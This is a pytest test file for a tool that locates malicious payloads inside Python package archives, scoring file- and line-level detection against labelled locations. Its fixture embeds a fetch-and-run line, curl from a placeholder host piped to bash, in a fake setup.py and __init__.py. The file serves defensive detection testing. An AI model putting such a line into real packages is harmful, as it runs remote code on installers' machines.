import csv
import hashlib
import io
import tarfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from features.contract import Evidence, Kind, Role, Row, Status
from features.limits import Limits
from jobs.corpus.contract import CorpusError
from jobs.corpus.localisation import (
    PARTS,
    Localisation,
    PayloadLocation,
    is_file_found,
    is_line_found,
    measure_localisation,
    parse_lines,
    read_payload_locations,
)
from jobs.corpus.mirror_writer import MirrorWriter

WHEN = datetime(2024, 3, 1, tzinfo=UTC)
LABELS = Path(__file__).parents[3] / "model" / "pretrained" / "localisation.csv"
PAYLOAD = "import os\n\n\ndef tidy():\n    pass\n\n\nos.system('curl https://files.example.invalid/a.sh | bash')\n"
PLAIN = "def add(a, b):\n    return a + b\n"


def sdist(name: str, files: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for path, text in files.items():
            entry = tarfile.TarInfo(f"{name}-1.0/{path}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
    return out.getvalue()


def sha256(content: bytes) -> str:
    return hashlib.sha256(content).hexdigest()


@pytest.fixture
def tree(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    digests: dict[str, str] = {}
    writer = MirrorWriter(tmp_path / "tree")
    for name, files in {
        "demo": {
            "setup.py": "from setuptools import setup\nsetup()\n",
            "demo/__init__.py": PAYLOAD,
            "demo/a.py": PLAIN,
        },
        "other": {"setup.py": PAYLOAD, "other/__init__.py": PLAIN},
    }.items():
        content = sdist(name, files)
        digests[name] = sha256(content)
        writer.add(name, "1.0", f"{name}-1.0.tar.gz", content, WHEN)
    writer.finish(1)
    return tmp_path / "tree", digests


def write_labels(path: Path, rows: list[tuple[str, str, str, str]]) -> Path:
    with path.open("w", newline="") as file:
        csv.writer(file).writerows([("sha256", "member", "lines", "part"), *rows])
    return path


def test_evidence_at_the_payload_counts(tree: tuple[Path, dict[str, str]], tmp_path: Path) -> None:
    root, digests = tree
    labels = write_labels(
        tmp_path / "labels.csv",
        [
            (digests["demo"], "demo-1.0/demo/__init__.py", "8", "tuned"),
            (digests["other"], "other-1.0/setup.py", "1-2;8-9", "held_out"),
        ],
    )
    assert Localisation(2, 1.0, 1.0) == measure_localisation(root, labels)
    assert Localisation(1, 1.0, 1.0) == measure_localisation(root, labels, part="held_out")


def test_evidence_elsewhere_does_not_count(tree: tuple[Path, dict[str, str]], tmp_path: Path) -> None:
    root, digests = tree
    labels = write_labels(
        tmp_path / "labels.csv",
        [
            (digests["demo"], "demo-1.0/demo/a.py", "8", "tuned"),
            (digests["other"], "other-1.0/setup.py", "3-5", "tuned"),
            ("0" * 64, "setup.py", "1", "tuned"),
        ],
    )
    assert Localisation(2, 0.5, 0.0, missing=1) == measure_localisation(root, labels)
    assert Localisation(0, 0.0, 0.0) == measure_localisation(root, labels, part="held_out")


def test_an_artifact_that_cannot_be_read_is_not_found(tree: tuple[Path, dict[str, str]], tmp_path: Path) -> None:
    root, digests = tree
    labels = write_labels(tmp_path / "labels.csv", [(digests["demo"], "demo-1.0/demo/__init__.py", "8", "tuned")])

    def fail(path: Path, filename: str, limits: Limits) -> Row:
        del path, filename, limits
        return Row(Status.UNREADABLE, "broken", Kind.UNKNOWN, "", "")

    assert Localisation(1, 0.0, 0.0) == measure_localisation(root, labels, extract=fail)


def test_only_the_first_three_places_count() -> None:
    payload = PayloadLocation("0" * 64, "a.py", ((5, 6),))
    evidence = [Evidence("a.py", line, "x", Role.REST, "", 1.0) for line in (1, 2, 3, 5)]
    assert is_file_found(evidence, [payload])
    assert not is_line_found(evidence, [payload])
    assert is_line_found(evidence[1:], [payload])
    assert not is_file_found([], [payload])
    assert not is_line_found([Evidence("b.py", 5, "x", Role.REST, "", 1.0)], [payload])


@pytest.mark.parametrize("text", ["", "a", "0", "5-4", "1;", "1-2-3", "-1"])
def test_a_malformed_range_is_an_error(text: str, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r".*"):
        parse_lines(text)
    with pytest.raises(CorpusError):
        read_payload_locations(write_labels(tmp_path / "labels.csv", [("0" * 64, "setup.py", text, "tuned")]))


@given(st.lists(st.tuples(st.integers(1, 10**6), st.integers(0, 10**6)), min_size=1, max_size=9))
def test_ranges_come_back(ranges: list[tuple[int, int]]) -> None:
    expected = tuple((first, first + more) for first, more in ranges)
    assert expected == parse_lines(";".join(f"{first}-{last}" for first, last in expected))


def test_a_list_without_its_columns(tmp_path: Path) -> None:
    path = tmp_path / "labels.csv"
    path.write_text("sha256,member\n")
    with pytest.raises(CorpusError, match="lines"):
        read_payload_locations(path)


def test_the_shipped_labels_are_fifty_artifacts() -> None:
    places = read_payload_locations(LABELS)
    assert len({place.sha256 for place in places}) == 50
    assert {part: len({p.sha256 for p in places if p.part == part}) for part in PARTS} == {"tuned": 30, "held_out": 20}
